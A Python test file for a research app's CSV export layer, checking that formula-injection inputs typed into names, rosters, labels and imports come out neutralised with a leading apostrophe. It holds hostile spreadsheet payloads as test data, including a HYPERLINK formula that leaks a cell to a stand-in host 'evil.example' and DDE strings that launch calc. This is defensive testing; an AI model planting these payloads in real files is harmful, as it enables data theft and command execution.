"""Every CSV AffectLab writes goes through :mod:`db.csvfile`: names people type never reach a spreadsheet as a
formula (class tables included), numbers stay numbers."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd

from db.csvfile import FORMULA_PREFIXES, neutralise_cell, write_frame
from tests.test_db_classes import _by_index, _ingest

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def _cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def test_the_writer_neutralises_text_and_keeps_numbers(tmp_path: Path) -> None:
    df = pd.DataFrame({"name": [HOSTILE, "@SUM(1)", "+1", "plain", None], "valence": [-0.5, 1.0, 0.0, 2.0, 3.0]})
    out = write_frame(df, tmp_path / "t.csv")
    back = pd.read_csv(out)
    assert list(back["valence"]) == [-0.5, 1.0, 0.0, 2.0, 3.0], "numbers stay numbers"
    assert not [c for c in _cells(out) if c.startswith(FORMULA_PREFIXES) and c not in ("-0.5",)]
    assert back["name"][0] == "'" + HOSTILE and neutralise_cell(neutralise_cell(HOSTILE)) == "'" + HOSTILE
    assert out.read_bytes().count(b"\r\n") == 6


def test_class_tables_are_written_by_the_one_writer(store, tmp_path: Path) -> None:
    mid = _ingest(store)
    csv_in = tmp_path / "segments.csv"
    csv_in.write_text(f'media,name,start_s,end_s\n{mid},"@cmd|calc",0,30\n')
    store.classroom.import_segments("class", csv_in)
    person = _by_index(store, mid)[0]
    store.classroom.rename_person(person.person_id, HOSTILE, "alice", owner=True)
    for table in ("class-segments", "class-minutes", "class-overall"):
        out = tmp_path / f"{table}.csv"
        store.exports.export("class", table, out)
        cells = _cells(out)
        bad = [c for c in cells if c.startswith(FORMULA_PREFIXES) and not _number(c)]
        assert not bad, (table, bad)
    text = (tmp_path / "class-segments.csv").read_text(encoding="utf-8")
    assert "'" + HOSTILE.replace('"', '""') in text and "'@cmd|calc" in text


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_no_csv_is_written_around_the_writer() -> None:
    """No module of db/, models/ or webapp/ calls DataFrame.to_csv or csv.writer but the writer itself (a frame
    writer and the streamed row writer)."""
    root = Path(__file__).resolve().parents[1]
    offenders = []
    for path in [*root.glob("db/*.py"), *root.glob("models/*.py"), *root.glob("webapp/**/*.py")]:
        text = path.read_text(encoding="utf-8")
        calls = text.count(".to_csv(") + text.count("csv.writer(") + text.count("csv.DictWriter(")
        allowed = {"csvfile.py": 2}.get(path.name, 0)
        if calls > allowed:
            offenders.append(f"{path.relative_to(root)}: {calls}")
    assert not offenders, offenders


def test_formulas_through_every_import_leave_every_csv_neutralised(tmp_path: Path) -> None:
    """Formulas typed into each import (segments, recording info, roster, labels with a note, an annotator's name)
    are stored as data, and no CSV the app offers (class tables, study tables, faces) starts a text cell with one."""
    import csv
    import io
    import zipfile

    from tests.apphelpers import opened_store
    from tests.test_db_classes import _ingest
    from webapp.services import classroom, exports
    from webapp.services import roster as roster_service

    with opened_store(tmp_path / "data") as store:
        mid = _ingest(store, study="default")
        segments = f'media,name,start_s,end_s\n{mid},"=HYPERLINK(""http://x"",""a"")",0,10\n'
        assert classroom.import_segments(store, "default", segments.encode(), "@alice") == 1
        info = f"media,course,recording,date\n{mid},+cmd|calc,-2+3,2026-10-05\n"
        assert classroom.import_recording_info(store, "default", info.encode(), owner=True) == 1
        people = b"participant,name,group\n=S01,@Ann,+G\nS02,-Bob,\tB\n"
        assert roster_service.import_roster(store, "default", people, owner=True) == 2
        labels = tmp_path / "labels.csv"
        face = store.recordings.faces("default")[0].face_id
        labels.write_text(f'face_id,label,note\n{face},Happiness,"=WEBSERVICE(""http://x"")"\n', encoding="utf-8")
        assert store.review.import_labels("default", labels, "=evil").annotations_added == 1
        files = {f"class-{t}": classroom.class_table_bytes(store, "default", t)[0] for t in classroom.CLASS_TABLES}
        with zipfile.ZipFile(io.BytesIO(classroom.study_tables_zip(store, "default", "csv", owner=True))) as zf:
            files.update({n: zf.read(n) for n in zf.namelist() if n.endswith(".csv")})
        files["faces"] = exports.export_bytes(store, "default", "csv", owner=True)
    text = b"".join(files.values())
    missing = [s for s in (b"HYPERLINK", b"cmd|calc", b"S01", b"WEBSERVICE") if s not in text]
    assert not missing, f"the imports never reached an export: {missing}"
    for name, body in files.items():
        for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))):
            formulas = [c for c in row if c.startswith(FORMULA_PREFIXES) and not _is_number(c)]
            assert not formulas, f"{name}: {formulas}"


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _row_writer_bytes(columns, kinds, names) -> bytes:
    import io

    from db.csvfile import RowWriter

    buf = io.StringIO()
    w = RowWriter(
        buf,
        text_at=[i for i, k in enumerate(kinds) if k == "text"],
        float_at=[i for i, k in enumerate(kinds) if k == "float"],
    )
    w.header(names)
    w.write_rows([list(r) for r in zip(*columns, strict=True)])
    return buf.getvalue().encode("utf-8")


def _column_writer_bytes(columns, kinds, names) -> bytes:
    import io

    from db.csvfile import ColumnWriter

    buf = io.BytesIO()
    w = ColumnWriter(buf, kinds)
    w.header(names)
    w.write_columns(columns)
    return buf.getvalue()


HOSTILE_TEXTS = [
    "=cmd|' /C calc'!A0",
    "+1",
    "-2+3",
    "@SUM(1)",
    "\tx",
    "\rcr",
    HOSTILE,
    "a,b",
    'say "hi"',
    "two\nlines",
    "=a,b",
    " =x",
    "'=x",
    "plain",
    "é ü",
    "",
    None,
]


def test_the_column_writer_writes_the_row_writers_bytes() -> None:
    """Column by column (Arrow) and row by row (the csv module): the same file, floats as ``repr`` included."""
    import math
    import random

    rng = random.Random(7)
    special = [0.0, -0.0, 1.0, -3.0, 1e-05, 1e-4, 9.999e-05, 1e15, 1e16, 1.5e16, 123456789012345.67, 2.5e-300]
    special += [math.inf, -math.inf, math.nan, None, 0.1, 1 / 3]

    def number() -> float | None:
        r = rng.random()
        if r < 0.3:
            return rng.choice(special)
        if r < 0.4:
            return float(rng.randint(-1000, 1000))
        return rng.random() * 10 ** rng.randint(-9, 19) * rng.choice((1, -1))

    n = 4000
    columns = [
        [rng.choice(HOSTILE_TEXTS) for _ in range(n)],
        [number() for _ in range(n)],
        [rng.choice([None, 0, 7, -3, 10**15]) for _ in range(n)],
        [rng.choice([True, False, None]) for _ in range(n)],
        [rng.choice([1.0, 2, None, math.nan, True]) for _ in range(n)],  # not of its kind: value by value
        [rng.choice([None, "model", "none"]) for _ in range(n)],
    ]
    columns += [list(columns[1]), [1 if v == 1.0 else v for v in columns[4]]]  # equal, and equal but for types
    kinds = ["text", "float", "int", "bool", "float", "text", "float", "float"]
    names = ["=name", "valence", "frame", "has_crop", "mixed", "-source", "copy", "ints"]
    assert _column_writer_bytes(columns, kinds, names) == _row_writer_bytes(columns, kinds, names)


def test_the_column_writer_neutralises_every_formula_and_import_reads_it_back() -> None:
    """Read back, no text cell starts a formula, and removing the apostrophe gives the text written."""
    import io

    from db.exports import unneutralise_cell

    texts = [t for t in HOSTILE_TEXTS if t is not None] * 3
    data = _column_writer_bytes([texts, [-0.5] * len(texts)], ["text", "float"], ["text", "valence"])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    assert rows[0] == ["text", "valence"] and len(rows) == len(texts) + 1
    for (cell, number), text in zip(rows[1:], texts, strict=True):
        assert not cell.startswith(FORMULA_PREFIXES), cell
        assert number == "-0.5"
        assert unneutralise_cell(cell) == text or text.startswith("'")  # "'=x" reads back as "=x", as always
    # Text in a column of another kind is written value by value, and neutralised too.
    data = _column_writer_bytes([[1.5, "=cmd", None, 2]], ["float"], ["x"])
    assert data == b"x\r\n1.5\r\n'=cmd\r\n\r\n2\r\n"
